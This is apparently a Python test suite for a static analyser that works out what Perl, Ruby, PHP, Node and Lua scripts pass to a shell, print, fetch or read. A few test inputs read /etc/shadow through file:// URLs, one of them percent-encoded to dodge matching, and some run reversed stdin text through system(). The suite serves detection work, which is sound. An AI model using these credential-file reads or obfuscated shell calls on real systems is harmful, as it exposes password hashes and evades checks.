def test_labels_of_the_text_go_with_what_it_gives_to_a_shell():
    what = scan("system('halt')", frozenset((NETWORK,)), [], "perl")
    assert what.shells == [Data("halt", frozenset((NETWORK,)))]


@pytest.mark.parametrize(
    ("language", "code", "text"),
    [
        ("node", "console.log('ha' + 'lt')", "halt\n"),
        ("ruby", "puts 'tlah'.reverse", "halt\n"),
        ("php", "echo 'ha', 'lt';", "halt"),
        ("lua", "print('halt')", "halt\n"),
    ],
)
def test_what_a_script_prints_is_known(language, code, text):
    assert found(language, code).output == Data(text)


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("node", "if (x()) { console.log('halt') }"),
        ("node", "require('fs').writeSync(1, 'halt')"),
        ("node", "console.error('halt')"),
        ("node", "console.log('%s', 'halt')"),
        ("perl", "system('ls'); print 'halt'"),
        ("perl", "syswrite STDOUT, 'halt'"),
        ("php", "fwrite(STDOUT, 'halt');"),
        ("ruby", "'halt'.display"),
    ],
)
def test_what_is_printed_perhaps_or_in_a_way_of_its_own_is_not_known(language, code):
    assert found(language, code).output.text == UNKNOWN


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("perl", "chomp($x = <STDIN>); system(scalar reverse $x)"),
        ("ruby", "system(gets.chomp.reverse)"),
        ("ruby", "system(STDIN.read.strip.reverse)"),
        ("php", "system(strrev(trim(file_get_contents('php://stdin'))));"),
        ("lua", "os.execute(io.read():reverse())"),
    ],
)
def test_a_script_computes_with_what_it_reads(language, code):
    shells = scan(code, NONE, [], language, "tlah\n").shells
    assert [each.text.strip() for each in shells] == ["halt"]


def test_what_changes_a_text_in_its_place():
    assert found("ruby", "x = 'xalt'; x.gsub!('x', 'h'); system(x)").shells == [Data("halt")]


def test_work_is_bounded():
    assert scan("x = 'a'; " * 20_000, NONE, [], "node").doubts
    assert UNKNOWN in scan("system(" + "a + " * 200 + "'x')", NONE, [], "ruby").shells[0].text
    assert scan("x = " + "(" * 5000, NONE, [], "node").doubts
    assert UNKNOWN in scan("$s = 'a';" + "$s = $s . $s;" * 99 + "system($s)", NONE, [], "perl").shells[0].text
    assert nothing(scan("let s = 'a'; for (let i = 0; i < 250; i++) { s = s + s }", NONE, [], "node"))
    assert scan("[" * 3000 + "]" * 3000, NONE, [], "ruby").doubts
    assert scan("a=>" * 9_000, NONE, [], "node").doubts


@given(st.sampled_from(LANGUAGES), st.text(max_size=80))
def test_no_text_raises(language, text):
    assert isinstance(found(language, text), Found)


PIECES = st.sampled_from(
    [
        "(",
        ")",
        "{",
        "}",
        "[",
        "]",
        '"',
        "'",
        "`",
        "$x",
        "@a",
        "%h",
        "#",
        "//",
        "/*",
        "=>",
        "->",
        "::",
        ".",
        "..",
        "<<E\n",
        "qw(",
        "s/a/",
        "tr/a/b/",
        "end",
        " do ",
        "if ",
        "while (1)",
        "fork",
        "\n",
        ";",
        UNKNOWN,
        "\0",
        "\\",
        "=",
        "|",
        "&",
        "function f(",
        "sub ",
        "def f",
        "class A",
        "new ",
        "import ",
        "eval ",
        "?",
        ":",
        "+",
        "...",
        "${",
        "@{",
        "%x(",
        "=~",
        "return ",
        "0x",
        "<?php",
        "system('a')",
        "require('child_process')",
        ".exec",
    ]
)


@given(st.sampled_from(LANGUAGES), st.lists(PIECES, max_size=25))
def test_no_pieces_of_code_raise(language, pieces):
    assert isinstance(found(language, "".join(pieces)), Found)


PRINTS = {"node": "console.log({})", "perl": "print {}", "ruby": "puts {}", "php": "echo {};", "lua": "print({})"}


@given(
    st.sampled_from(sorted(PRINTS)),
    st.text(alphabet=st.characters(codec="ascii", exclude_characters="\r\n"), max_size=60),
)
def test_any_text_that_is_only_printed_finds_nothing(language, text):
    quoted = "'" + text.replace("\\", "\\\\").replace("'", "\\'") + "'"
    assert nothing(found(language, PRINTS[language].format(quoted)))


def test_the_proxy_of_a_request_is_reached():
    effects = found("node", "require('axios').get('http://h', {proxy: 'p:1'})").effects
    assert [each[:2] for each in effects] == [("receive", "p:1"), ("receive", "http://h")]


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("php", "echo file_get_contents('file:///etc/shadow');"),
        ("node", "require('fs').readFileSync(new URL('file:///etc/shadow'))"),
        ("ruby", "require 'open-uri'; puts URI.open('file:///etc/sh%61dow').read"),
        ("perl", "use LWP::Simple; getprint('file:///etc/shadow')"),
    ],
)
def test_a_file_address_is_the_file(language, code):
    assert ("read", "/etc/shadow") in [each[:2] for each in found(language, code).effects]
